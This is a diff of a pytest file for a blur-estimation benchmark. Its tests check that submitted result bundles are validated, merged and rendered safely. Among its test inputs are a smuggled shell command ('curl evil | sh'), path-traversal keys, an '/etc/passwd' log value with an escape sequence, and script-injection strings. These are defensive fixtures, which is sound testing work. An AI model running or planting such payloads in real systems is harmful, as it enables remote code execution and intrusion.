@@ -13,15 +13,16 @@ import pytest
 
 from blurbench.board.outcomes import estimates_of
 from blurbench.board.render import estimators
-from blurbench.registry import Registry
-from blurbench.results.agreement import without_dissenters
-from blurbench.results.estimation import Board, Estimation
-from blurbench.results.held import Held, hold
-from blurbench.results.merging import gather, merge
-from blurbench.results.store import Store
-from blurbench.results.validation import Known, validate
-from tests.results.test_merging import new_store
-from tests.results.test_mutated_bundles import EVIL, Parcel, at, deep, judged, taken_apart
+from blurbench.registry import Registry, config
+from blurbench.store.label_consistency import without_inconsistent
+from blurbench.store.record import Manifest, Record
+from blurbench.store.store import Store
+from blurbench.submissions.check import check as check_submission
+from blurbench.submissions.installation import Installation
+from blurbench.submissions.merge import gather, merge
+from blurbench.submissions.submission import Submission, open_submission
+from tests.submissions.test_merge import new_store
+from tests.submissions.test_mutated_bundles import EVIL, Parcel, at, deep, judged, taken_apart
 
 BOARD = "kernel-estimation.v1.quick"
 
@@ -33,34 +34,34 @@ def store(estimated: Path, tmp_path: Path) -> Store:
 
 
 @pytest.fixture(scope="module")
-def known(registry: Registry, estimated: Path) -> Known:
-    return Known(registry, Store(estimated), ())
+def known(registry: Registry, estimated: Path) -> Installation:
+    return Installation(registry, Store(estimated), ())
 
 
 @pytest.fixture
-def judge(known: Known, tmp_path: Path) -> Callable[[bytes], Held]:
+def judge(known: Installation, tmp_path: Path) -> Callable[[bytes], Submission]:
     return partial(judged, known, tmp_path)
 
 
-def board_of(store: Store) -> Board:
-    board = store.estimations.board(BOARD)
+def board_of(store: Store) -> Manifest:
+    board = store.records.board(BOARD)
     assert board is not None
     return board
 
 
 def rendered(store: Store) -> str:
     board = board_of(store)
-    return estimators.markdown(estimates_of(board, store.estimations.records_of(board)), {})
+    return estimators.markdown(estimates_of(board, store.records.of_board(board)), {})
 
 
 # --- out and in -----------------------------------------------------------------------------------------------------
 
 
 def test_a_bundle_merged_elsewhere_gives_the_same_board(
-    store: Store, judge: Callable[[bytes], Held], tmp_path: Path
+    store: Store, judge: Callable[[bytes], Submission], tmp_path: Path
 ) -> None:
     outgoing = gather(store, BOARD)
-    assert {name.partition("/")[0] for name in outgoing.files} == {"estimations"}
+    assert {name.partition("/")[0] for name in outgoing.files} == {"records"}
     held, other = judge(outgoing.pack()), new_store(tmp_path / "other")
     assert held.refusals == []
     merged = merge(held, other)
@@ -69,107 +70,95 @@ def test_a_bundle_merged_elsewhere_gives_the_same_board(
     assert again is not None
     assert (merged.board, merged.added, again.added, again.known) == (BOARD, 6, 0, 6)
     assert rendered(other) == rendered(store)
-    assert other.boards() == [], "no board of classifiers came of it"
 
 
 def test_two_halves_make_the_whole_and_a_narrower_one_takes_nothing_away(
-    store: Store, judge: Callable[[bytes], Held], tmp_path: Path
+    store: Store, judge: Callable[[bytes], Submission], tmp_path: Path
 ) -> None:
     whole, other = board_of(store), new_store(tmp_path / "other")
     for half in (whole.lines[::2], whole.lines[1::2], whole.lines[:1]):
-        store.estimations.put_board(BOARD, whole.model_copy(update={"lines": half}))
+        store.records.put_board(BOARD, whole.model_copy(update={"lines": half}))
         merge(judge(gather(store, BOARD).pack()), other)
     assert sorted(map(str, board_of(other).lines)) == sorted(map(str, whole.lines))
 
 
-def changed(record: Estimation, factor: float) -> Estimation:
+def changed(record: Record, factor: float) -> Record:
     """A record whose errors are others, and still consistent."""
     content = json.loads(record.model_dump_json())
     for name in ("raw", "smoothed"):
-        errors = content["measured"][name]
+        errors = content["result"]["measured"][name]
         errors["per_picture"] = [factor * value for value in errors["per_picture"]]
         errors["mse"] *= factor
         errors["rmse"] *= factor**0.5
-    return Estimation.model_validate(content)
+    return Record.model_validate(content)
 
 
 @pytest.mark.parametrize(("factor", "refused"), [(1.5, True), (1 + 1e-6, False)])
 def test_a_cell_with_other_errors_keeps_them_and_last_digits_do_not_matter(
-    store: Store, judge: Callable[[bytes], Held], tmp_path: Path, factor: float, refused: bool
+    store: Store, judge: Callable[[bytes], Submission], tmp_path: Path, factor: float, refused: bool
 ) -> None:
     other, key = new_store(tmp_path / "other"), board_of(store).lines[0].key
-    record = store.estimations.record(key)
+    record = store.records.get(key)
     assert record is not None
     own = changed(record, factor)
-    other.estimations.put_record(own)
+    other.records.put(own)
     merged = merge(held := judge(gather(store, BOARD).pack()), other)
     assert merged is not None
     assert (merged.added, merged.known) == (5, 0 if refused else 1)
-    assert other.estimations.record(key) == own
-    assert [refusal.file for refusal in held.refusals] == ([f"estimations/{key}.json"] if refused else [])
+    assert other.records.get(key) == own
+    assert [refusal.file for refusal in held.refusals] == ([f"records/{key}.json"] if refused else [])
     if refused:
         assert "says otherwise (a mean squared error of " in held.refusals[0].reason
 
 
-def test_a_board_that_reproduced_a_paper_is_believed(store: Store, judge: Callable[[bytes], Held]) -> None:
+def test_a_board_that_reproduced_a_paper_is_believed(store: Store, judge: Callable[[bytes], Submission]) -> None:
     commands = ["blurbench reproduce patro2017 --budget quick"]
-    store.estimations.put_board(BOARD, board_of(store).model_copy(update={"commands": commands}))
+    store.records.put_board(BOARD, board_of(store).model_copy(update={"commands": commands}))
     (board,) = judge(gather(store, BOARD).pack()).boards.values()
     assert board.commands == commands
 
 
-def test_a_board_of_another_content_takes_nothing(store: Store, judge: Callable[[bytes], Held], tmp_path: Path) -> None:
+def test_a_board_of_another_content_takes_nothing(
+    store: Store, judge: Callable[[bytes], Submission], tmp_path: Path
+) -> None:
     other = new_store(tmp_path / "other")
-    other.estimations.put_board(BOARD, board_of(store).model_copy(update={"content": "cd" * 16, "lines": []}))
+    other.records.put_board(BOARD, board_of(store).model_copy(update={"content": "cd" * 16, "lines": []}))
     assert merge(held := judge(gather(store, BOARD).pack()), other) is None
     assert "its content is not that of the board" in held.refusals[0].reason
 
 
-def test_a_board_from_before_bundles_is_read_and_goes_on(store: Store) -> None:
-    path = store.estimations.board_path(BOARD)
-    content = json.loads(path.read_text())
-    content["rows"] = content.pop("lines")
-    path.write_text(json.dumps(content))
-    assert len(board_of(store).lines) == 6
-
-
-def test_records_from_before_sampling_was_stored_are_believed_by_their_keys(store: Store, known: Known) -> None:
-    for line in board_of(store).lines:
-        path = store.estimations.record_path(line.key)
-        content = json.loads(path.read_text())
-        del content["sampling"], content["data_fingerprint"]
-        path.write_text(json.dumps(content))
-    assert validate(held := hold(store.root), known) == []
-    assert (len(held.records), held.refusals) == (6, [])
-
-
-def test_a_folder_a_board_and_a_record_can_be_validated(store: Store, known: Known) -> None:
-    record = store.estimations.record_path(board_of(store).lines[0].key)
-    board = store.estimations.board_path(BOARD)
-    for path in (store.root, board, store.board_path(BOARD, ".json"), record):
-        held = hold(path)
-        assert validate(held, known) == []
+def test_a_folder_a_board_and_a_record_can_be_validated(store: Store, known: Installation) -> None:
+    record = store.records.path(board_of(store).lines[0].key)
+    board = store.records.board_path(BOARD)
+    for path in (store.root, board, record):
+        held = open_submission(path)
+        assert check_submission(held, known) == []
         assert (held.refusals, bool(held.records)) == ([], True)
 
 
 def test_pictures_that_are_not_here_are_said_and_not_held_against_a_record(
-    store: Store, known: Known, tmp_path: Path
+    store: Store, known: Installation, tmp_path: Path
 ) -> None:
-    path = store.estimations.record_path(board_of(store).lines[0].key)
+    path = store.records.path(board_of(store).lines[0].key)
     content = json.loads(path.read_text())
-    brodatz = {"name": "brodatz-pictures", "revision": 1, "select": "std10"}
-    content["tested_on"] = {"name": "brodatz-pictures", "label": "brodatz-pictures", "spec": brodatz}
+    brodatz = config(known.registry, known.registry.resolve("datasets", "brodatz-pictures"))
+    content["axes"]["dataset"] = {"name": "brodatz-pictures", "label": "brodatz-pictures", "config": brodatz}
     (tmp_path / "record.json").write_text(json.dumps(content))
-    notes = validate(held := hold(tmp_path / "record.json"), Known(known.registry, known.store, (tmp_path,)))
+    notes = check_submission(
+        held := open_submission(tmp_path / "record.json"), Installation(known.registry, known.store, (tmp_path,))
+    )
     assert held.refusals == []
     assert notes == ["1 record: data set brodatz-pictures is not here, so its images and keys were not checked"]
 
 
 def test_hostile_words_of_a_board_are_shown_as_words(store: Store) -> None:
     board, words = board_of(store), "<script>alert(1)</script> |`](javascript:x)"
-    lines = [line.model_copy(update={"estimator": words, "tested_on": words}) for line in board.lines]
+    lines = [
+        line.model_copy(update={"labels": {**line.labels, "estimator": words, "dataset": words}})
+        for line in board.lines
+    ]
     told = {"title": words, "budget": words, "budget_values": {words: words}, "lines": lines}
-    records = store.estimations.records_of(board)
+    records = store.records.of_board(board)
     failed = {key: record.refused(words) for key, record in list(records.items())[:2]}
     shown = estimates_of(board.model_copy(update=told), {**records, **failed})
     text = estimators.markdown(shown, {})
@@ -179,14 +168,19 @@ def test_hostile_words_of_a_board_are_shown_as_words(store: Store) -> None:
 
 def test_a_forged_true_map_is_a_row_with_a_reason(store: Store) -> None:
     board = board_of(store)
-    line = next(line for line in board.lines if (line.blur, line.estimator) == ("ramp", "laplacian-variance"))
-    path = store.estimations.record_path(line.key)
+    line = next(
+        line for line in board.lines if (line["test_blur"], line["estimator"]) == ("ramp", "laplacian-variance")
+    )
+    path = store.records.path(line.key)
     content = json.loads(path.read_text())
-    content["measured"]["mean_answer_mse"] *= 2
+    content["result"]["measured"]["mean_answer_mse"] *= 2
     path.write_text(json.dumps(content))
-    records = without_dissenters(board, store.estimations.records_of(board))
+    records = without_inconsistent(board, store.records.of_board(board))
     assert [record.key for record in records.values() if record.status != "ok"] == [line.key]
-    assert records[line.key].reason == "refused: its true map is not that of 2 other records on pictures[content=text]"
+    assert (
+        records[line.key].reason
+        == "refused: its test images are not those of 2 other records of pictures[content=text]"
+    )
 
 
 # --- changes --------------------------------------------------------------------------------------------------------
@@ -208,7 +202,7 @@ def reader_of(parcel: Parcel, blur: str) -> tuple[str, dict[str, Any]]:
     return next(
         (name, record)
         for name, record in records.items()
-        if record["estimator"]["name"] == "laplacian-variance" and record["blur"]["name"] == blur
+        if record["axes"]["estimator"]["name"] == "laplacian-variance" and record["axes"]["test_blur"]["name"] == blur
     )
 
 
@@ -257,52 +251,130 @@ MEASURED: dict[str, tuple[str, Any]] = {
 }
 
 RECORDS: dict[str, tuple[tuple[Any, ...], Any]] = {
-    **{name: (("measured", *path.split(".")), value) for name, (path, value) in MEASURED.items()},
-    "nothing measured": (("measured",), None),
+    **{name: (("result", "measured", *path.split(".")), value) for name, (path, value) in MEASURED.items()},
+    "nothing measured": (
+        (
+            "result",
+            "measured",
+        ),
+        None,
+    ),
     "another key": (("key",), "ab" * 16),
     "a key that climbs": (("key",), "../../evil"),
     "failed": (("status",), "failed"),
     "a reason": (("reason",), EVIL),
     "a log that climbs": (("log",), "\x1b[2J/etc/passwd"),
-    "another estimator": (("estimator", "spec", "name"), "spectral"),
-    "an unknown estimator": (("estimator", "spec", "name"), "miracle"),
-    "another parameter": (("estimator", "spec", "surprise"), 1),
-    "another revision": (("estimator", "spec", "revision"), 99),
-    "another label": (("estimator", "label"), EVIL),
-    "other pictures": (("tested_on", "spec", "content"), "photographs"),
-    "unknown pictures": (("tested_on", "spec", "content"), "../../etc"),
-    "another blur": (("blur", "spec", "steps", 0, "pattern"), "sine"),
-    "fitted on something": (("fitted_on",), lambda _: {"name": "pictures", "label": "x", "spec": {"name": "pictures"}}),
-    "a split": (("split",), "patch"),
+    "another estimator": (("axes", "estimator", "config", "name"), "spectral"),
+    "an unknown estimator": (("axes", "estimator", "config", "name"), "miracle"),
+    "another parameter": (("axes", "estimator", "config", "surprise"), 1),
+    "another revision": (("axes", "estimator", "config", "revision"), 99),
+    "another label": (("axes", "estimator", "label"), EVIL),
+    "other pictures": (("axes", "dataset", "config", "content"), "photographs"),
+    "unknown pictures": (("axes", "dataset", "config", "content"), "../../etc"),
+    "another blur": (("axes", "test_blur", "config", "steps", 0, "pattern"), "sine"),
+    "fitted on something": (("axes", "fitted_on"), {"name": "pictures", "label": "x", "config": {"name": "pictures"}}),
+    "a split": (("settings", "split"), "patch"),
     "another budget": (("budget", "epochs"), 400),
     "an endless budget": (("budget", "epochs"), deep(50)),
     "an endless number": (("budget", "epochs"), 10**400),
     "another seed": (("seed",), 5),
     "another fingerprint": (("data_fingerprint",), "0" * 64),
-    "another stride of the suite": (("sampling", "stride"), 1),
-    "another smoothing of the suite": (("sampling", "smoothing"), 3),
-    "another test seed": (("sampling", "test_seed"), 1),
-    "no time": (("seconds",), 0.0),
-    "no time at all": (("seconds",), None),
-    "ages": (("seconds",), 9e8),
-    "ages of fitting": (("fit_seconds",), 9e8),
-    "negative parameters": (("parameters",), -1),
-    "endless parameters": (("parameters",), 10**15),
-    "notes that are not finite": (("fit",), {"train_loss": [float("nan")]}),
-    "an accuracy that is text": (("fit",), {"validation_accuracy": ["high"]}),
-    "an accuracy that is no share": (("fit",), {"validation_accuracy": [17]}),
-    "notes with an escape": (("fit",), {EVIL: 1}),
-    "endless notes": (("fit",), deep(100)),
-    "many notes": (("fit",), {"loss": [0.5] * 30_000}),
+    "another stride of the suite": (("settings", "stride"), 1),
+    "another smoothing of the suite": (("settings", "smoothing"), 3),
+    "another test seed": (("test_seed",), 1),
+    "no time": (
+        (
+            "result",
+            "seconds",
+        ),
+        0.0,
+    ),
+    "no time at all": (
+        (
+            "result",
+            "seconds",
+        ),
+        None,
+    ),
+    "ages": (
+        (
+            "result",
+            "seconds",
+        ),
+        9e8,
+    ),
+    "ages of fitting": (
+        (
+            "result",
+            "fit_seconds",
+        ),
+        9e8,
+    ),
+    "negative parameters": (
+        (
+            "result",
+            "parameters",
+        ),
+        -1,
+    ),
+    "endless parameters": (
+        (
+            "result",
+            "parameters",
+        ),
+        10**15,
+    ),
+    "notes that are not finite": (
+        (
+            "result",
+            "fit",
+        ),
+        {"train_loss": [float("nan")]},
+    ),
+    "an accuracy that is text": (
+        (
+            "result",
+            "fit",
+        ),
+        {"validation_accuracy": ["high"]},
+    ),
+    "an accuracy that is no share": (
+        (
+            "result",
+            "fit",
+        ),
+        {"validation_accuracy": [17]},
+    ),
+    "notes with an escape": (
+        (
+            "result",
+            "fit",
+        ),
+        {EVIL: 1},
+    ),
+    "endless notes": (
+        (
+            "result",
+            "fit",
+        ),
+        deep(100),
+    ),
+    "many notes": (
+        (
+            "result",
+            "fit",
+        ),
+        {"loss": [0.5] * 30_000},
+    ),
     "provenance with an escape": (("provenance", "device"), EVIL),
-    "another schema": (("schema_version",), 2),
+    "another schema": (("schema_version",), 3),
     "more": (("surprise",), 1),
 }
 
 
 @pytest.mark.parametrize("name", RECORDS)
 def test_a_changed_record_is_refused_alone(
-    name: str, parcel: Parcel, judge: Callable[[bytes], Held], tmp_path: Path
+    name: str, parcel: Parcel, judge: Callable[[bytes], Submission], tmp_path: Path
 ) -> None:
     file, record = reader_of(parcel, "chain")
     parcel.put(file, at(record, *RECORDS[name]))
@@ -320,12 +392,12 @@ UNIFORM: dict[str, tuple[str, Any]] = {
 
 @pytest.mark.parametrize("name", UNIFORM)
 def test_under_one_sigma_what_follows_from_it_is_checked(
-    name: str, parcel: Parcel, judge: Callable[[bytes], Held], tmp_path: Path
+    name: str, parcel: Parcel, judge: Callable[[bytes], Submission], tmp_path: Path
 ) -> None:
     file, record = reader_of(parcel, "gaussian")
     path, value = UNIFORM[name]
-    record["measured"]["raw"] |= {"mse": 9.0, "rmse": 3.0, "per_picture": [9.0, 9.0]}
-    parcel.put(file, at(record, ("measured", *path.split(".")), value))
+    record["result"]["measured"]["raw"] |= {"mse": 9.0, "rmse": 3.0, "per_picture": [9.0, 9.0]}
+    parcel.put(file, at(record, ("result", "measured", *path.split(".")), value))
     held = judge(parcel.zipped())
     assert [refusal.file for refusal in held.refusals] == [file]
     assert f"measured.{path}" in held.refusals[0].reason
@@ -340,26 +412,26 @@ BOARDS: dict[str, tuple[tuple[Any, ...], Any]] = {
     "another content": (("board", "content"), "cd" * 16),
     "a title with an escape": (("board", "title"), EVIL),
     "a command of a stranger": (("board", "commands"), ["blurbench run; curl evil | sh"]),
-    "a line under another estimator": (("board", "lines", 0, "estimator"), "cnn-30"),
-    "a line under a name of its own": (("board", "lines", 0, "estimator"), "the best"),
+    "a line under another estimator": (("board", "lines", 0, "labels", "estimator"), "cnn-30"),
+    "a line under a name of its own": (("board", "lines", 0, "labels", "estimator"), "the best"),
     "a line of another seed": (("board", "lines", 0, "seed"), 5),
-    "a line of a split": (("board", "lines", 0, "split"), "patch"),
-    "a line of an unknown split": (("board", "lines", 0, "split"), EVIL),
-    "a line on other pictures": (("board", "lines", 0, "tested_on"), "photographs"),
-    "a line under another blur": (("board", "lines", 0, "blur"), "sine"),
-    "a line that was fitted": (("board", "lines", 0, "fitted_on"), "photographs"),
+    "a line of a split": (("board", "lines", 0, "labels", "split"), "patch"),
+    "a line of an unknown split": (("board", "lines", 0, "labels", "split"), EVIL),
+    "a line on other pictures": (("board", "lines", 0, "labels", "dataset"), "photographs"),
+    "a line under another blur": (("board", "lines", 0, "labels", "test_blur"), "sine"),
+    "a line that was fitted": (("board", "lines", 0, "labels", "fitted_on"), "photographs"),
     "a line of another key": (("board", "lines", 0, "key"), "ab" * 16),
     "two lines at one place": (("board", "lines"), lambda lines: [*lines, {**lines[0], "key": "ab" * 16}]),
     "no lines": (("board", "lines"), []),
-    "lines of classifiers": (("board", "lines", 0, "classifier"), "cnn3"),
+    "lines of classifiers": (("board", "lines", 0, "labels", "classifier"), "cnn3"),
     "a baseline": (("board", "baseline"), "plain"),
     "an endless environment": (("environments",), [deep(100)]),
-    "another schema": (("board", "schema_version"), 2),
+    "another schema": (("board", "schema_version"), 3),
 }
 
 
 @pytest.mark.parametrize("name", BOARDS)
-def test_a_changed_board(name: str, parcel: Parcel, judge: Callable[[bytes], Held], tmp_path: Path) -> None:
+def test_a_changed_board(name: str, parcel: Parcel, judge: Callable[[bytes], Submission], tmp_path: Path) -> None:
     parcel.manifest = at(parcel.manifest, *BOARDS[name])
     held = judge(parcel.zipped())
     assert held.refusals
@@ -377,7 +449,7 @@ CONTENTS: dict[str, bytes] = {
 
 
 @pytest.mark.parametrize("name", CONTENTS)
-def test_a_record_that_is_none(name: str, parcel: Parcel, judge: Callable[[bytes], Held], tmp_path: Path) -> None:
+def test_a_record_that_is_none(name: str, parcel: Parcel, judge: Callable[[bytes], Submission], tmp_path: Path) -> None:
     file, _ = reader_of(parcel, "chain")
     parcel.files[file] = CONTENTS[name]
     held = judge(parcel.zipped())
@@ -385,7 +457,7 @@ def test_a_record_that_is_none(name: str, parcel: Parcel, judge: Callable[[bytes
     check(held, 5, tmp_path)
 
 
-def check(held: Held, most: int, folder: Path) -> None:
+def check(held: Submission, most: int, folder: Path) -> None:
     """What is left does no harm, and is merged."""
     assert len(held.records) <= most
     for refusal in held.refusals:
@@ -396,20 +468,7 @@ def check(held: Held, most: int, folder: Path) -> None:
     merged = merge(held, other)
     assert merged is not None
     assert merged.added == len(held.records)
-    assert {path.name for path in (other.root / "boards").iterdir()} == set()
+    assert {path.name for path in (other.root / "boards").iterdir()} == {f"{BOARD}.json"}
     text = rendered(other) if merged.added else ""
     assert "<script" not in text
     assert "\x1b" not in text
-
-
-def test_bundles_of_either_kind_do_not_pass_for_the_other(parcel: Parcel, judge: Callable[[bytes], Held]) -> None:
-    renamed = {name.replace("estimations/", "records/"): content for name, content in parcel.files.items()}
-    held = judge(Parcel(parcel.manifest, renamed).zipped())
-    assert held.records == held.boards == {}
-    assert len(held.refusals) == 1
-
-
-def test_a_bundle_holds_records_of_one_kind(parcel: Parcel, judge: Callable[[bytes], Held]) -> None:
-    parcel.put(f"records/{'ab' * 16}.json", {"key": "ab" * 16})
-    (refusal,) = judge(parcel.zipped()).refusals
-    assert refusal.reason.startswith("manifest.json: files")
